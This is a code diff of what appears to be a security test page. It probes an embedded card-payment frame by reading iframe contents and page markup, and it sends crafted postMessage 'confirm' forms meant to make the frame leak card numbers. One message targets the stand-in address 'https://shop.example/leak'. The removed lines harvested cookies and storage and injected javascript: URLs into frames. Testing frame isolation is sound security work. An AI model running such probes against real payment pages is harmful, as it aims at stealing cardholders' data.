@@ -52,33 +52,12 @@ function listen(): void {
 	};
 }
 
+/** Reads what scripts of a page can reach: the frames' documents, the page's markup and its requests. */
 function look(): void {
-	for (const [index, iframe] of [...document.querySelectorAll("iframe")].entries()) {
-		const inside = iframe.contentWindow;
-		void attempt("iframe", () => iframe.outerHTML);
-		void attempt("contentDocument", () => iframe.contentDocument?.documentElement.outerHTML);
-		for (const name of ["document", "name", "origin", "history", "localStorage", "performance", "navigator"]) {
-			void attempt(`contentWindow.${name}`, () => inside && Reflect.get(inside, name));
-		}
-		void attempt("values", () => [...(inside?.document.querySelectorAll("input") ?? [])].map(({ value }) => value));
-		void attempt("location", () => inside?.location.href);
-		void attempt("length", () => inside?.length);
-		void attempt("frames", () => window.frames[index]?.document.body.innerHTML);
-		void attempt("keys", () => inside && Reflect.ownKeys(inside).map(String));
-		void attempt("javascript:", () => {
-			if (inside) inside.location.href = "javascript:parent.postMessage(document.body.innerHTML, '*')";
-		});
-		void attempt(
-			"open",
-			() => window.open("javascript:opener.postMessage(document.body.innerHTML,'*')", iframe.name)?.name,
-		);
+	for (const { contentWindow } of document.querySelectorAll("iframe")) {
+		void attempt("frame", () => contentWindow?.document.documentElement.outerHTML);
 	}
 	void attempt("page", () => document.documentElement.outerHTML);
-	void attempt("selection", () => String(getSelection()));
-	void attempt("window.name", () => window.name);
-	void attempt("cookie", () => document.cookie);
-	void attempt("storage", () => [{ ...localStorage }, { ...sessionStorage }]);
-	void attempt("history", () => history.state);
 	void attempt("resources", () => performance.getEntriesByType("resource").map(({ name }) => name));
 }
 
@@ -108,8 +87,7 @@ async function throughStripe(): Promise<() => Promise<void>> {
 	};
 }
 
-const key = PUBLISHABLE_KEY;
-const confirming = { key, client_secret: clientSecret, "payment_method_data[type]": "card" };
+const confirming = { key: PUBLISHABLE_KEY, client_secret: clientSecret, "payment_method_data[type]": "card" };
 
 /** Messages that try to make the frame send its card elsewhere, or respond with card data. */
 const messages = [
@@ -117,20 +95,12 @@ const messages = [
 		{ ...confirming, client_secret: `${clientSecret}/../../leak` },
 		{ ...confirming, "payment_method_data[card][number][echo]": "1" },
 		{ ...confirming, "payment_method_data[billing_details][name]": "card[number]" },
+		{ ...confirming, receipt_email: "payment_method_data[card][number]" },
 		{ key: "sk_test_mine" },
 		{},
-		{ ...confirming, receipt_email: "payment_method_data[card][number]" },
-		confirming,
 	].map((form) => ({ say: "confirm", form })),
 	...["card", "form", "value", "fields", "read", "leave", "toString", "constructor", "options"].map((say) => ({ say })),
-	...[
-		"card",
-		{},
-		{ say: "deliver", to: "https://shop.example/leak" },
-		{ say: "focus" },
-		leakingStyle(),
-		{ say: "blur" },
-	],
+	...["card", {}, { say: "deliver", to: "https://shop.example/leak" }, leakingStyle()],
 ];
 
 function leakingStyle() {
@@ -158,16 +128,16 @@ async function throughFrame(): Promise<() => Promise<void>> {
 		second.port1.onmessage = ({ data }) => note("second line", data);
 		iframe.contentWindow?.postMessage(null, "*", [second.port2]);
 	});
-	// most messages get no response; this also records late responses
+	// the frame handles messages in order and replies only to a confirmation
 	const send = (message: object | string) =>
 		new Promise<void>((resolve) => {
 			const { port1, port2 } = new MessageChannel();
 			port1.onmessage = () => resolve();
-			setTimeout(resolve, 500);
 			port?.postMessage(message, [port2]);
 		});
 	return async () => {
-		for (const message of messages) await send(message);
+		for (const message of messages) void send(message);
+		await send({ say: "confirm", form: confirming });
 	};
 }
 
@@ -178,7 +148,5 @@ button.textContent = "Attack";
 button.onclick = async () => {
 	await (await attack)();
 	look();
-	// wait for the responses to the last attempts
-	await new Promise((resolve) => setTimeout(resolve, 300));
 	document.body.appendChild(document.createElement("pre")).textContent = JSON.stringify(seen);
 };
